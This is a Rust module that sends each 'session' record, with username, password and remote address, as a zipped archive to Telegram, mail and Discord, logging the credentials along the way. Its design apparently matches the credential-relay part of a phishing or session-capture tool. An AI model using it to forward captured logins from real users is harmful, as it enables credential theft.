//! # Channel Dispatcher
//!
//! Runs one notification cycle per session:
//!
//! ```text
//! Idle → ConfigLoaded → MessageFormatted → ArchiveBuilt
//!      → ChannelsDispatched → ArchiveDeleted → Done
//! ```
//!
//! A config-load or archive-build failure ends the cycle early. Channel failures are
//! isolated: every enabled channel is attempted, all three sends are joined, and only
//! then is the archive deleted. Nothing is ever propagated to the caller; the returned
//! [`DispatchReport`] describes what happened for callers that care.
//!
//! ## Usage
//!
//! ```rust,no_run
//! use sessionrelay::dispatch::Dispatcher;
//! use sessionrelay::session::Session;
//!
//! #[tokio::main]
//! async fn main() {
//!     let dispatcher = Dispatcher::from_config_file("sessionrelay.toml");
//!     let session = Session { username: "bob".into(), password: "hunter2".into(), ..Session::default() };
//!     let report = dispatcher.dispatch(&session).await;
//!     println!("{:?}", report.end);
//! }
//! ```

use crate::archive::NotificationArchive;
use crate::channels::{ChannelKind, ChannelSender, Senders};
use crate::config::{ConfigSource, FileConfigSource};
use crate::message::{format_for_log, format_session_message};
use crate::metrics;
use crate::session::Session;
use crate::text::single_line;
use log::{debug, error, info, warn};
use std::path::{Path, PathBuf};
use std::sync::Arc;

const SEPARATOR: &str = "------------------------------------------------------";

/// Why a channel was not attempted, or how the attempt went.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ChannelOutcome {
    Disabled,
    Skipped(&'static str),
    Sent,
    Failed(String),
}

/// How the cycle ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CycleEnd {
    ConfigLoadFailed(String),
    ArchiveBuildFailed(String),
    Completed,
}

#[derive(Debug, Clone)]
pub struct DispatchReport {
    pub end: CycleEnd,
    /// Path of the archive built during the cycle, if one was built.
    pub archive: Option<PathBuf>,
    /// One entry per channel, in [`ChannelKind::ALL`] order. Empty on early exit.
    pub channels: Vec<(ChannelKind, ChannelOutcome)>,
    pub cleanup_error: Option<String>,
}

impl DispatchReport {
    fn aborted(end: CycleEnd) -> Self {
        Self {
            end,
            archive: None,
            channels: Vec::new(),
            cleanup_error: None,
        }
    }

    pub fn outcome(&self, kind: ChannelKind) -> Option<&ChannelOutcome> {
        self.channels.iter().find(|(k, _)| *k == kind).map(|(_, o)| o)
    }

    pub fn is_completed(&self) -> bool {
        self.end == CycleEnd::Completed
    }
}

/// Fans one session out to every enabled channel.
#[derive(Clone)]
pub struct Dispatcher {
    source: Arc<dyn ConfigSource>,
    senders: Senders,
}

impl Dispatcher {
    pub fn new(source: Arc<dyn ConfigSource>, senders: Senders) -> Self {
        Self { source, senders }
    }

    /// Dispatcher re-reading `path` each cycle and using the network senders.
    pub fn from_config_file(path: impl Into<PathBuf>) -> Self {
        Self::new(Arc::new(FileConfigSource::new(path)), Senders::live())
    }

    /// Run one full cycle for `session`. Never fails; see [`DispatchReport`].
    pub async fn dispatch(&self, session: &Session) -> DispatchReport {
        metrics::inc_cycles_started();
        debug!(
            "Dispatch cycle started for user '{}' from {}",
            single_line(&session.username),
            single_line(&session.remote_addr)
        );

        let config = match self.source.load().await {
            Ok(config) => config,
            Err(e) => {
                error!("Failed to load configuration: {:#}", e);
                metrics::inc_cycles_aborted();
                return DispatchReport::aborted(CycleEnd::ConfigLoadFailed(e.to_string()));
            }
        };

        let message = format_session_message(session);

        let archive = match NotificationArchive::build_in(&config.archive_dir(), session) {
            Ok(archive) => archive,
            Err(e) => {
                error!("Error creating zip file: {}", e);
                metrics::inc_cycles_aborted();
                return DispatchReport::aborted(CycleEnd::ArchiveBuildFailed(e.to_string()));
            }
        };
        metrics::inc_archives_built();

        info!("{}", SEPARATOR);
        info!("Latest Session:");
        for line in format_for_log(session).lines() {
            info!("{}", line);
        }
        info!("{}", SEPARATOR);

        let path = archive.path().to_path_buf();
        let telegram_gate = if session.has_credentials() {
            None
        } else {
            Some("username or password is empty")
        };

        // The join is the barrier: the archive must outlive every send.
        let (telegram, mail, discord) = tokio::join!(
            run_channel(
                ChannelKind::Telegram,
                config.telegram.enabled,
                telegram_gate,
                self.senders.telegram.as_ref(),
                &config.telegram,
                &message,
                &path,
            ),
            run_channel(
                ChannelKind::Mail,
                config.mail.enabled,
                None,
                self.senders.mail.as_ref(),
                &config.mail,
                &message,
                &path,
            ),
            run_channel(
                ChannelKind::Discord,
                config.discord.enabled,
                None,
                self.senders.discord.as_ref(),
                &config.discord,
                &message,
                &path,
            ),
        );

        let cleanup_error = match archive.remove() {
            Ok(()) => {
                metrics::inc_archives_deleted();
                info!("Zip file deleted successfully.");
                None
            }
            Err(e) => {
                metrics::inc_cleanup_failed();
                error!("Error deleting zip file {}: {}", path.display(), e);
                Some(e.to_string())
            }
        };

        metrics::inc_cycles_completed();
        DispatchReport {
            end: CycleEnd::Completed,
            archive: Some(path),
            channels: vec![
                (ChannelKind::Telegram, telegram),
                (ChannelKind::Mail, mail),
                (ChannelKind::Discord, discord),
            ],
            cleanup_error,
        }
    }
}

async fn run_channel<C: Sync>(
    kind: ChannelKind,
    enabled: bool,
    skip_reason: Option<&'static str>,
    sender: &dyn ChannelSender<C>,
    credentials: &C,
    message: &str,
    archive: &Path,
) -> ChannelOutcome {
    // Disabled channels are silent; only eligibility skips are worth an operator line.
    if !enabled {
        debug!("Channel {} disabled", kind);
        return ChannelOutcome::Disabled;
    }
    if let Some(reason) = skip_reason {
        info!("Skipping {} notification: {}.", kind, reason);
        metrics::record_channel_skipped(kind);
        return ChannelOutcome::Skipped(reason);
    }

    match sender.send(credentials, message, archive).await {
        Ok(()) => {
            info!("{} notification sent", kind);
            metrics::record_channel_sent(kind);
            ChannelOutcome::Sent
        }
        Err(e) => {
            error!("Error sending {} notification: {}", kind, e);
            metrics::record_channel_failed(kind);
            ChannelOutcome::Failed(e.to_string())
        }
    }
}

/// Dispatch several sessions as independent tasks and wait for all of them.
pub async fn dispatch_all(dispatcher: Arc<Dispatcher>, sessions: Vec<Session>) -> Vec<DispatchReport> {
    let mut set = tokio::task::JoinSet::new();
    for (index, session) in sessions.into_iter().enumerate() {
        let dispatcher = Arc::clone(&dispatcher);
        set.spawn(async move { (index, dispatcher.dispatch(&session).await) });
    }

    let mut reports = Vec::with_capacity(set.len());
    while let Some(joined) = set.join_next().await {
        match joined {
            Ok(pair) => reports.push(pair),
            Err(e) => warn!("Dispatch task ended abnormally: {}", e),
        }
    }
    reports.sort_by_key(|(index, _)| *index);
    reports.into_iter().map(|(_, report)| report).collect()
}
